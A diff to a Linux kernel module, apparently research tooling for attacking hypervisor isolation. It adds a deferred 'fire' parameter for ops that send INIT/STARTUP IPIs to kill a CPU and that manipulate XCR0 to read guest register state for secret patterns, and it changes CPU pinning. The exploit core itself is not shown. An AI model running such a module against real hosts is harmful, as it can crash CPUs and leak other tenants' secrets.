@@ -25,6 +25,7 @@
  *   op=initsipi  INIT, then (unless sipi=0) STARTUP (vector `vector`) to
  *                the hoisted CPU cpu; then whether it still runs Linux (an
  *                IPI'd function runs within 2 s): alive, and svme there.
+ *                Use with defer=1 (below).
  *   op=xsave     for `seconds`: narrows XCR0 to x87|SSE, runs vCPU 0 of
  *                domain domid itself (HOIST_HC_VCPU_RUN, retried while its
  *                own thread runs it), widens XCR0 again and reads the upper
@@ -156,19 +157,28 @@ static bool is_secret(u64 word)
 	return x == pattern || (pattern2 && x == pattern2);
 }
 
-/* Move the insmod task to CPU c (c < 0: stay). */
+static cpumask_var_t saved_mask;
+static bool pinned;
+
+/* Move this task to CPU c (c < 0: stay) until unpin(). */
 static int pin_to(int c)
 {
 	if (c < 0)
 		return 0;
 	if (c >= nr_cpu_ids || !cpu_online(c))
 		return -EINVAL;
+	if (!pinned) {
+		cpumask_copy(saved_mask, current->cpus_ptr);
+		pinned = true;
+	}
 	return set_cpus_allowed_ptr(current, cpumask_of(c));
 }
 
 static void unpin(void)
 {
-	set_cpus_allowed_ptr(current, cpu_possible_mask);
+	if (pinned)
+		set_cpus_allowed_ptr(current, saved_mask);
+	pinned = false;
 }
 
 /* ------------------------------------------------------------- scan */
@@ -559,7 +569,7 @@ static int op_xsave(void)
 
 /* ------------------------------------------------------------- init */
 
-static int __init hoist_hostile_init(void)
+static int run_op(void)
 {
 	int r;
 
@@ -587,8 +597,54 @@ static int __init hoist_hostile_init(void)
 	return r;
 }
 
+/*
+ * defer=1: insmod only loads; writing 1 to parameters/fire runs the op, in
+ * the writer's context.  For op=initsipi: loading a module ends with IPIs
+ * to every CPU, which would wait for ever for a CPU the attack killed.
+ */
+static bool defer;
+module_param(defer, bool, 0444);
+
+static DEFINE_MUTEX(fire_lock);
+
+static int fire_set(const char *val, const struct kernel_param *kp)
+{
+	bool go;
+	int r = kstrtobool(val, &go);
+
+	if (r || !go)
+		return r;
+	mutex_lock(&fire_lock);
+	r = run_op();
+	mutex_unlock(&fire_lock);
+	return r;
+}
+
+static const struct kernel_param_ops fire_ops = {
+	.set = fire_set,
+	.get = param_get_bool,
+};
+
+static bool fired;
+module_param_cb(fire, &fire_ops, &fired, 0644);
+
+static int __init hoist_hostile_init(void)
+{
+	int r;
+
+	if (!op)
+		return -EINVAL;
+	if (!zalloc_cpumask_var(&saved_mask, GFP_KERNEL))
+		return -ENOMEM;
+	r = defer ? 0 : run_op();
+	if (r)
+		free_cpumask_var(saved_mask);
+	return r;
+}
+
 static void __exit hoist_hostile_exit(void)
 {
+	free_cpumask_var(saved_mask);
 }
 
 module_init(hoist_hostile_init);
